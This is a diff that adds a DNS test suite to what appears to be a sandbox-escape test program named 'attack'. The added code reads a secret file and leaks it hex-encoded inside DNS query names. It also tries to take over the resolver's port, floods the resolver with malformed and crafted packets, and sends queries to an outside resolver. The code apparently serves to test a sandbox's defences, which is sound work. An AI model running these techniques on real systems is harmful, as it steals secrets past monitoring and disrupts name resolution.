@@ -36,6 +36,9 @@
 #include <net/ethernet.h>
 #include <poll.h>
 #include <arpa/inet.h>
+#include <arpa/nameser.h>
+#include <netdb.h>
+#include <resolv.h>
 #include <unistd.h>
 #include <linux/fs.h>
 #include <sys/ioctl.h>
@@ -847,6 +850,238 @@ static int signal_breaks_a_wait(void) {
     return 0;
 }
 
+// ---- DNS through the monitor (dns suite) ----
+
+// Resolves NAME (IPv4) with the sandbox's resolver; prints every address, or
+// the failure. Returns the first address in `out` (0 if none).
+static int dns_resolve(const char *what, const char *name, struct sockaddr_in *out) {
+    struct addrinfo hints, *res = NULL;
+    memset(&hints, 0, sizeof hints);
+    hints.ai_family = AF_INET;
+    hints.ai_socktype = SOCK_STREAM;
+    int e = getaddrinfo(name, NULL, &hints, &res);
+    if (e) {
+        printf("%s %s: failed=%s\n", what, name, gai_strerror(e));
+        fflush(stdout);
+        return 0;
+    }
+    int n = 0;
+    for (struct addrinfo *p = res; p; p = p->ai_next) {
+        char buf[64];
+        struct sockaddr_in *sa = (struct sockaddr_in *)p->ai_addr;
+        inet_ntop(AF_INET, &sa->sin_addr, buf, sizeof buf);
+        printf("%s %s: addr=%s\n", what, name, buf);
+        if (n++ == 0 && out) *out = *sa;
+    }
+    fflush(stdout);
+    freeaddrinfo(res);
+    return n;
+}
+
+// Connects to `sa` port `port`, sends `msg`; prints what happened.
+static void dns_send(const char *what, struct sockaddr_in sa, int port, const char *msg) {
+    sa.sin_port = htons(port);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    char label[128];
+    snprintf(label, sizeof label, "%s connect", what);
+    int r = connect(s, (struct sockaddr *)&sa, sizeof sa);
+    report(label, r);
+    if (r == 0) {
+        snprintf(label, sizeof label, "%s send", what);
+        report(label, write(s, msg, strlen(msg)));
+    }
+    close(s);
+}
+
+// A query for NAME (type A) sent with the attacker's own bytes to IP:PORT over
+// UDP: sendto's result, and whether an answer came within a second.
+static void dns_raw_query(const char *what, const char *ip, int port, const char *name) {
+    unsigned char q[512];
+    int len = res_mkquery(QUERY, name, C_IN, T_A, NULL, 0, NULL, q, sizeof q);
+    if (len < 0) {
+        printf("%s: mkquery failed\n", what);
+        return;
+    }
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
+    inet_pton(AF_INET, ip, &sa.sin_addr);
+    char label[128];
+    snprintf(label, sizeof label, "%s sendto", what);
+    report(label, sendto(s, q, len, 0, (struct sockaddr *)&sa, sizeof sa));
+    struct pollfd pfd = {.fd = s, .events = POLLIN};
+    int ready = poll(&pfd, 1, 1000);
+    printf("%s answered: %d\n", what, ready > 0);
+    fflush(stdout);
+    close(s);
+}
+
+// Sends `n` bytes of `b` to the sandbox's resolver over UDP.
+static void to_resolver(const void *b, size_t n) {
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
+    inet_pton(AF_INET, "127.0.0.53", &sa.sin_addr);
+    sendto(s, b, n, MSG_DONTWAIT, (struct sockaddr *)&sa, sizeof sa);
+    close(s);
+}
+
+static void dns_bind_resolver(void) {
+    // Every way to take the resolver's port: its address, the wildcards, with
+    // and without SO_REUSEADDR / SO_REUSEPORT, UDP and TCP.
+    const char *addrs[] = {"127.0.0.53", "0.0.0.0", "::"};
+    for (int a = 0; a < 3; a++) {
+        for (int ty = 0; ty < 2; ty++) {
+            for (int opt = 0; opt < 3; opt++) {
+                int v6 = strchr(addrs[a], ':') != NULL;
+                int s = socket(v6 ? AF_INET6 : AF_INET, ty ? SOCK_STREAM : SOCK_DGRAM, 0);
+                int one = 1;
+                if (opt == 1) setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+                if (opt == 2) setsockopt(s, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
+                int r;
+                if (v6) {
+                    struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_port = htons(53)};
+                    r = bind(s, (struct sockaddr *)&sa, sizeof sa);
+                } else {
+                    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
+                    inet_pton(AF_INET, addrs[a], &sa.sin_addr);
+                    r = bind(s, (struct sockaddr *)&sa, sizeof sa);
+                }
+                char what[96];
+                snprintf(what, sizeof what, "bind %s %s opt%d", addrs[a], ty ? "tcp" : "udp", opt);
+                report(what, r);
+                close(s);
+            }
+        }
+    }
+}
+
+static void dns_flood(int n) {
+    unsigned char junk[600];
+    for (int i = 0; i < (int)sizeof junk; i++) junk[i] = (unsigned char)(i * 37 + 11);
+    unsigned char q[512];
+    int len = res_mkquery(QUERY, "flood.invalid", C_IN, T_A, NULL, 0, NULL, q, sizeof q);
+    for (int i = 0; i < n; i++) {
+        to_resolver(junk, 1 + (i % sizeof junk));          // garbage of every length
+        if (len > 12) {
+            unsigned char c[512];
+            memcpy(c, q, len);
+            c[2] |= 0x80;                                  // QR=1: an "answer"
+            to_resolver(c, len);
+            memcpy(c, q, len);
+            c[5] = 2;                                      // two questions, one present
+            to_resolver(c, len);
+            memcpy(c, q, len);
+            c[12] = 63;                                    // a label running past the end
+            to_resolver(c, len);
+            memcpy(c, q, len);
+            c[12] = 0xc0; c[13] = 12;                      // a compression loop
+            to_resolver(c, 14);
+        }
+    }
+    // TCP: a connection that never speaks, one with a huge length, one cut short.
+    for (int k = 0; k < 3; k++) {
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
+        inet_pton(AF_INET, "127.0.0.53", &sa.sin_addr);
+        if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
+            if (k == 1) write(s, "\xff\xff", 2);
+            if (k == 2) write(s, "\x00\x40\x12", 3);
+        }
+        if (k != 0) close(s); // k == 0 stays open, silent
+    }
+    printf("flood: sent %d\n", n);
+    fflush(stdout);
+}
+
+// Queries NAME over TCP (RES_USEVC): the number of answers, or the failure.
+static void dns_tcp(const char *name) {
+    res_init();
+    _res.options |= RES_USEVC;
+    unsigned char ans[1024];
+    int r = res_query(name, C_IN, T_A, ans, sizeof ans);
+    if (r < 0) {
+        printf("tcp query %s: failed h_errno=%d\n", name, h_errno);
+    } else {
+        int n = r >= 12 ? (ans[6] << 8 | ans[7]) : -1; // ANCOUNT
+        printf("tcp query %s: answers=%d\n", name, n);
+    }
+    fflush(stdout);
+    _res.options &= ~RES_USEVC;
+}
+
+static int dns_main(int argc, char **argv) {
+    const char *name = argv[1];
+    if (!strcmp(name, "dns-connect") && argc == 5) {
+        // dns-connect NAME PORT MSG: resolve, connect to the first address, send.
+        struct sockaddr_in sa;
+        if (dns_resolve("resolve", argv[2], &sa)) dns_send(argv[2], sa, atoi(argv[3]), argv[4]);
+        return 0;
+    }
+    if (!strcmp(name, "dns-repeat") && argc == 6) {
+        // dns-repeat NAME PORT N MSG: N times, with a pause: resolve and connect.
+        for (int i = 0; i < atoi(argv[4]); i++) {
+            struct sockaddr_in sa;
+            if (dns_resolve("resolve", argv[2], &sa)) dns_send(argv[2], sa, atoi(argv[3]), argv[5]);
+            usleep(100000);
+        }
+        return 0;
+    }
+    if (!strcmp(name, "dns-later") && argc == 6) {
+        // dns-later NAME PORT SECONDS MSG: resolve, connect and send; wait; connect
+        // again to the same address without resolving.
+        struct sockaddr_in sa;
+        if (!dns_resolve("resolve", argv[2], &sa)) return 0;
+        dns_send("first", sa, atoi(argv[3]), argv[5]);
+        sleep(atoi(argv[4]));
+        dns_send("later", sa, atoi(argv[3]), argv[5]);
+        return 0;
+    }
+    if (!strcmp(name, "dns-taint") && argc == 5) {
+        // dns-taint MARKER SECRETFILE SUFFIX: resolve MARKER (the channel works),
+        // read the secret (the taint), then ask for <secret>.SUFFIX over UDP and
+        // TCP, and for MARKER again.
+        dns_resolve("before", argv[2], NULL);
+        int fd = open(argv[3], O_RDONLY);
+        char sec[32] = {0};
+        report("open secret", fd);
+        if (fd >= 0) read(fd, sec, 20);
+        char label[64] = {0};
+        int k = 0;
+        for (int i = 0; sec[i] && k < 40; i++)
+            k += snprintf(label + k, sizeof label - k, "%02x", (unsigned char)sec[i]);
+        char leak[256];
+        snprintf(leak, sizeof leak, "%s.%s", label, argv[4]);
+        dns_resolve("after", leak, NULL);
+        dns_tcp(leak);
+        dns_resolve("after marker", argv[2], NULL);
+        return 0;
+    }
+    if (!strcmp(name, "dns-bind") && argc == 3) {
+        // dns-bind NAME: try to take the resolver's port; then resolve NAME.
+        dns_bind_resolver();
+        dns_resolve("resolve after", argv[2], NULL);
+        return 0;
+    }
+    if (!strcmp(name, "dns-flood") && argc == 4) {
+        // dns-flood NAME N: malformed and crafted packets, idle TCP; then NAME.
+        dns_resolve("resolve before", argv[2], NULL);
+        dns_flood(atoi(argv[3]));
+        dns_resolve("resolve after", argv[2], NULL);
+        return 0;
+    }
+    if (!strcmp(name, "dns-tcp") && argc == 3) {
+        dns_tcp(argv[2]);
+        return 0;
+    }
+    if (!strcmp(name, "dns-own") && argc == 6) {
+        // dns-own RESOLVER PORT NAME MARKERPORT: a query of our own to another
+        // resolver (the connect rules decide it), and to the sandbox's.
+        dns_raw_query("own resolver", argv[2], atoi(argv[3]), argv[4]);
+        dns_raw_query("sandbox resolver", "127.0.0.53", 53, argv[4]);
+        return 0;
+    }
+    return -1;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: attack NAME [ARGS]\n");
@@ -854,6 +1089,10 @@ int main(int argc, char **argv) {
     }
     const char *name = argv[1];
     signal(SIGPIPE, SIG_IGN);
+    if (!strncmp(name, "dns-", 4)) {
+        int r = dns_main(argc, argv);
+        if (r >= 0) return r;
+    }
 
     if (!strcmp(name, "signals-during-calls") && argc >= 3) return signals_during_calls(atoi(argv[2]));
     if (!strcmp(name, "signal-breaks-a-wait")) return signal_breaks_a_wait();
